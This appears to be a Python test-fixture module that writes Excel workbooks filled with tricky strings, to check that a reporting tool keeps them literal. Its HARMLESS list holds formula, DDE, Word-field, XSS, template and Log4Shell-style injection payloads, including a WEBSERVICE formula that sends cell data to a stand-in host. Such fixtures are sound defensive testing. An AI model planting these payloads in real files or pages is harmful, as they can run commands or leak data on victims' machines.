"""Texts that want to be something else: formulas, links, fields, XML, tags; and characters no document can hold."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import xlsxwriter

HARMLESS = [
    "=cmd|'/c calc'!A0", "{=1+1}", "=1+1", "@SUM(A1)", "+1+cmd", "-1+cmd", "http://x.y/", "https://x.y", "ftp://x.y",
    "mailto:a@b.c", "external:c.xlsx", "internal:'A'!A1", "file:///etc/passwd", r"\\may\o\a.xlsx", "#REF!", "TRUE",
    '</w:t></w:r><w:fldSimple w:instr="DDE"/>', "]]>", "<![CDATA[x", "&lt;b&gt; &amp; <i> \"q\" 'a'", "<?pl 0?>", "PLNOTE \"PLID\"",
    "_x000D_ and _x0041_ and _x005F_", "{{ 1 + 1 }} {{ khong.co }}", "{% for x in chi_tieu %}", "{# x #}", "{DDEAUTO c:\\x}",
    "INCLUDETEXT \"http://x\"", "a\u202eb\u200fc\u2066d", "\U0001f600 \U00020000", "%s {0} {x} $1 \\1",
    "/truong[.='x']", "'", '"', "`", "a'b\"c",
    '=WEBSERVICE("http://x/"&A1)', '=HYPERLINK("http://x","mở")', '=DDE("cmd";"/c calc";"a")', "＝1+1 ＠SUM(A1)", "'=1+1",
    "x;=1+1", "x,=cmd|' /C calc'!A0", "{=TABLE(A1)}", "javascript:alert(1)", "ms-word:ofe|u|http://x/a.docx", "&#x3D;1+1 &#61;",
    '</w:instrText><w:hyperlink r:id="rId1">', 'HYPERLINK "http://x" \\t _blank', "${jndi:ldap://x}", "{{ phu_luc }}",
    "{%- include 'x' -%}", "<script>alert(1)</script>", "%00%0a=1+1",
]  # fmt: skip
"""Texts that must come out as they went in."""

FOLDED = {"a\u2028b\u2029c": "a b c", "a\x0bb\x0cc\x85d": "a b c d", "a\u00a0b": "a b"}
"""Texts whose white space becomes spaces."""

UNWRITABLE = {"a\x01b\x1bc\x00d": "abcd", "a\ufffeb\uffffc": "abc", "a\ud800b\udfffc": "abc", "x\x08y": "xy"}
"""Texts that lose something, and what is left of them."""

LONG = "dài " * 10_000


def nasty_book(path: Path, texts: list[str], *, sheet: str = "PHỤ LỤC", actual: int = 9, office: str = "") -> Path:
    """A workbook with one indicator for each text, which stands in its note and unit, in `Thông tin` and in `Số liệu`."""
    made = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
    grid = made.add_worksheet(sheet)
    for column, heading in enumerate(
        ("STT", "Nội dung", "Đơn vị tính", "Chỉ tiêu", "2022", "2023", "Thực hiện", "Ghi chú")
    ):
        grid.write_string(0, column, heading)
    for row, text in enumerate(texts, 1):
        grid.write_string(row, 0, str(row))
        grid.write_string(row, 1, f"Mục {row} {_raw(text)}"[:32_000])
        grid.write_string(row, 2, _raw(text)[:200])
        for column, number in enumerate((10, 4, actual - 4, actual), 3):
            grid.write_number(row, column, number)
        grid.write_string(row, 7, _raw(text))
    info = made.add_worksheet("Thông tin")
    for row, label in enumerate(("Cơ quan", "Trích yếu", "Kỳ báo cáo", "Người ký", "Nơi nhận", "Địa danh")):
        info.write_string(row, 0, label)
        info.write_string(row, 1, office if office and not row else _raw(texts[row % len(texts)]))
    figures = made.add_worksheet("Số liệu")
    for column, heading in enumerate(("Mã", "Nội dung", "Giá trị", "Đơn vị")):
        figures.write_string(0, column, heading)
    for row, text in enumerate(texts, 1):
        figures.write_string(row, 0, f"so{row}")
        figures.write_string(row, 1, _raw(text))
        figures.write_string(row, 2, f"chữ {_raw(text)}"[:32_000])
        figures.write_string(row, 3, _raw(text)[:200])
    made.close()
    _restore_surrogates(path)
    return path


def _raw(text: str) -> str:
    """Lone surrogates stand aside until the file is written; xlsxwriter escapes what else needs it."""
    return "".join(chr(0xE000 + ord(c) - 0xD800) if 0xD800 <= ord(c) <= 0xDFFF else c for c in text)


def _restore_surrogates(path: Path) -> None:
    """Write them as Excel writes what XML cannot hold."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            text = re.sub("[\ue000-\ue7ff]", lambda found: f"_x{ord(found[0]) - 0xE000 + 0xD800:04X}_", data.decode())
            archive.writestr(name, text)
